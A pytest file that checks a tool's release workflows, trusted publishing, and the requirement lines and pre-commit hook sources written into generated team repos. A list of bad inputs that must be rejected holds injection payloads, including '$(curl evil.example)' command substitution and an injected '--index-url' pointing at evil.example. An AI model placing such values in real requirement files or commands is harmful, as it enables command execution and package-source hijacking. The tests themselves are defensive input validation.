"""How feast-federation reaches the repos it generates: the packages a release publishes,
the project's own workflows, and the requirement and hook source each repo installs."""

from __future__ import annotations

import glob
import re
import shlex
import sys
from pathlib import Path

import pytest
import yaml

from support import ROOT, invoke, run

BIN = Path(sys.executable).parent
WORKFLOWS = ROOT / ".github" / "workflows"
GIT_REQUIREMENT = "feast-federation @ git+https://github.com/acme/feast-federation@v0.1.0"
ACME_URL = "https://github.com/acme/feast-federation"


def steps_of(workflow: Path, job: str) -> list[dict]:
    return yaml.safe_load(workflow.read_text())["jobs"][job]["steps"]


def test_the_release_job_builds_packages_that_pass_twine_check(tmp_path):
    """The commands of release.yml's build job, run here: sdist and wheel, twine check."""
    runs = [step.get("run", "") for step in steps_of(WORKFLOWS / "release.yml", "build")]
    commands = [r for r in runs if "hatchling build" in r or "twine check" in r]
    assert len(commands) == 2, runs
    for command in commands:
        assert command.startswith("python -m "), command
        # dist/ is the scratch directory's; dist/* is what the build wrote there.
        args = [str(tmp_path / a) if a.startswith("dist") else a for a in shlex.split(command)]
        args = [p for a in args[1:] for p in (sorted(glob.glob(a)) if "*" in a else [a])]
        result = run([sys.executable, *args], cwd=ROOT)
        assert result.returncode == 0, result.stdout + result.stderr
    built = sorted(p.name for p in (tmp_path / "dist").iterdir())
    assert built == ["feast_federation-0.1.0-py3-none-any.whl", "feast_federation-0.1.0.tar.gz"]
    assert "PASSED" in result.stdout and "FAILED" not in result.stdout


def test_the_projects_workflows_pass_schema_and_zizmor():
    files = [str(WORKFLOWS / "ci.yml"), str(WORKFLOWS / "release.yml")]
    schema = run([str(BIN / "check-jsonschema"), "--builtin-schema", "vendor.github-workflows",
                  *files])  # fmt: skip
    assert schema.returncode == 0, schema.stdout + schema.stderr
    for persona in ("regular", "auditor"):
        audit = run([str(BIN / "zizmor"), "--persona", persona, "--offline", "--no-progress",
                     *files])  # fmt: skip
        assert audit.returncode == 0, audit.stdout + audit.stderr
        assert "No findings to report" in audit.stdout + audit.stderr


def test_release_publishes_a_v_tag_with_trusted_publishing():
    release = yaml.safe_load((WORKFLOWS / "release.yml").read_text())
    assert release[True] == {"push": {"tags": ["v*"]}}  # YAML reads `on` as True
    assert release["permissions"] == {}
    publish = release["jobs"]["publish"]
    assert publish["permissions"] == {"id-token": "write"}
    assert publish["environment"]["name"] == "pypi"
    [action] = [s["uses"] for s in publish["steps"] if "pypi-publish" in s.get("uses", "")]
    assert re.fullmatch(r"pypa/gh-action-pypi-publish@[0-9a-f]{40}", action)
    assert not any("password" in (s.get("with") or {}) for s in publish["steps"])
    ci = yaml.safe_load((WORKFLOWS / "ci.yml").read_text())
    assert "pull_request" in ci[True]
    assert any("make test" in s.get("run", "") for s in ci["jobs"]["test"]["steps"])


# --- the requirement and the hook source of generated repos ------------------------------


def hook_source(repo: Path) -> tuple[str, str]:
    [entry] = yaml.safe_load((repo / ".pre-commit-config.yaml").read_text())["repos"]
    return entry["repo"], entry["rev"]


def federation_line(repo: Path) -> str:
    [line] = [x for x in (repo / "requirements.txt").read_text().splitlines()
              if x.startswith("feast-federation")]  # fmt: skip
    return line


def test_team_repos_inherit_the_platforms_requirement_and_hook_source(tmp_path):
    org = tmp_path / "org"
    made = invoke("bootstrap", org, "--team", "alpha", "--federation-requirement",
                  GIT_REQUIREMENT, "--federation-repo-url", ACME_URL)  # fmt: skip
    assert made.exit_code == 0, made.output
    platform = org / "platform"
    added = invoke("add-team", "beta", "--platform", platform)
    assert added.exit_code == 0, added.output
    for repo in (platform, org / "teams" / "alpha", org / "teams" / "beta"):
        assert federation_line(repo) == GIT_REQUIREMENT, repo
        assert hook_source(repo) == (ACME_URL, "v0.1.0"), repo
    # A team may name its own; it is checked like the platform's.
    own = "feast-federation==0.1.0"
    added = invoke("add-team", "gamma", "--platform", platform, "--federation-requirement", own)
    assert added.exit_code == 0, added.output
    assert federation_line(org / "teams" / "gamma") == own


def test_plain_cookiecutter_team_inherits_from_the_platform(tmp_path):
    made = invoke("bootstrap", tmp_path / "org", "--federation-requirement", GIT_REQUIREMENT,
                  "--federation-repo-url", ACME_URL)  # fmt: skip
    assert made.exit_code == 0, made.output
    result = run(
        [sys.executable, "-m", "cookiecutter", str(ROOT), "--directory", "cookiecutter-team",
         "--no-input", "--output-dir", str(tmp_path / "out"), "team_name=plain_team",
         f"platform_dir={tmp_path / 'org' / 'platform'}"]
    )  # fmt: skip
    assert result.returncode == 0, result.stdout + result.stderr
    team = tmp_path / "out" / "plain_team"
    assert federation_line(team) == GIT_REQUIREMENT
    assert hook_source(team) == (ACME_URL, "v0.1.0")


BAD_REQUIREMENTS = [
    "feast==0.67",  # another project
    "feast-federation==0.1.0; python_version > '3'",  # markers
    "-e git+https://x.io/feast-federation",  # a pip option
    "feast-federation==0.1\n--index-url https://evil.example",  # two lines
    "feast-federation @ https://x.io/{{ 7 * 7 }}",  # template text
    "feast-federation==$(curl evil.example)",
]


@pytest.fixture(scope="module")
def platform_only(tmp_path_factory) -> Path:
    org = tmp_path_factory.mktemp("org")
    assert invoke("bootstrap", org / "org").exit_code == 0
    return org / "org" / "platform"


@pytest.mark.parametrize("requirement", BAD_REQUIREMENTS, ids=range(len(BAD_REQUIREMENTS)))
def test_a_bad_requirement_is_one_line_and_writes_nothing(tmp_path, platform_only, requirement):
    result = invoke("bootstrap", tmp_path / "org", "--team", "alpha",
                    "--federation-requirement", requirement)  # fmt: skip
    assert result.exit_code == 1
    [line] = result.output.strip().splitlines()
    assert line.startswith("error: federation_requirement "), line
    assert not (tmp_path / "org").exists()
    before = (platform_only / "federation.yaml").read_text()
    result = invoke("add-team", "beta", "--platform", platform_only, "--output-dir",
                    tmp_path / "teams", "--federation-requirement", requirement)  # fmt: skip
    assert result.exit_code == 1
    [line] = result.output.strip().splitlines()
    assert line.startswith("error: federation requirement "), line
    assert not (tmp_path / "teams").exists()
    assert (platform_only / "federation.yaml").read_text() == before


def test_a_bad_hook_source_is_one_line(tmp_path):
    result = invoke("bootstrap", tmp_path / "org", "--federation-repo-url", "https://x.io/a b")
    assert result.exit_code == 1
    [line] = result.output.strip().splitlines()
    assert line.startswith("error: federation_repo_url "), line
    assert not (tmp_path / "org").exists()
